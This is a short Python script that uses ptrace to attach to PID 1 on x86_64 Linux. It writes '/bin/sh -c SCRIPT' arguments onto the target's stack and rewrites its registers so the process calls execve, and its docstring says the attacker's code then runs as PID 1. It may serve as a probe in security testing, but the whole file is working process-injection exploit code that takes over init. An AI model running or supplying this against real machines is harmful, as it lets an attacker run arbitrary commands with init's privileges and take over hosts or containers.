"""ptrace PID 1 and make it execve `sh -c SCRIPT` (x86_64): the attacker's code runs as PID 1."""

import ctypes
import os
import struct
import sys

PTRACE_PEEKTEXT, PTRACE_POKEDATA, PTRACE_GETREGS, PTRACE_SETREGS = 1, 5, 12, 13
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
WALL = 0x40000000
# struct user_regs_struct (x86_64), in order.
NAMES = (
    "r15", "r14", "r13", "r12", "rbp", "rbx", "r11", "r10", "r9", "r8", "rax", "rcx", "rdx",
    "rsi", "rdi", "orig_rax", "rip", "cs", "eflags", "rsp", "ss", "fs_base", "gs_base", "ds",
    "es", "fs", "gs",
)  # fmt: skip


class Regs(ctypes.Structure):
    _fields_ = [(n, ctypes.c_ulonglong) for n in NAMES]


libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


def main(pid, script):
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        print("ATTACH-REFUSED", os.strerror(ctypes.get_errno()))
        return 0
    os.waitpid(pid, WALL)
    regs = Regs()
    libc.ptrace(PTRACE_GETREGS, pid, None, ctypes.byref(regs))
    word = libc.ptrace(PTRACE_PEEKTEXT, pid, ctypes.c_void_p(regs.rip - 2), None)
    if word & 0xFFFF != 0x050F:
        print("NOT-IN-SYSCALL", hex(word & 0xFFFF))
        libc.ptrace(PTRACE_DETACH, pid, None, None)
        return 1
    base = (regs.rsp - 8192) & ~0xF
    strings = [b"/bin/sh\0", b"sh\0", b"-c\0", script.encode() + b"\0"]
    blob, addrs = b"", []
    for s in strings:
        addrs.append(base + len(blob))
        blob += s + b"\0" * (-len(s) % 8)
    argv_at = base + len(blob)
    blob += struct.pack("<QQQQ", addrs[1], addrs[2], addrs[3], 0)
    for off in range(0, len(blob), 8):
        val = struct.unpack("<q", blob[off:off + 8])[0]
        libc.ptrace(PTRACE_POKEDATA, pid, ctypes.c_void_p(base + off), ctypes.c_void_p(val))
    regs.rip -= 2
    regs.rax, regs.orig_rax = 59, 2**64 - 1
    regs.rdi, regs.rsi, regs.rdx = addrs[0], argv_at, 0
    regs.rsp = base - 256
    libc.ptrace(PTRACE_SETREGS, pid, None, ctypes.byref(regs))
    libc.ptrace(PTRACE_DETACH, pid, None, None)
    print("HIJACKED")
    return 0


sys.exit(main(int(sys.argv[1]), sys.argv[2]))
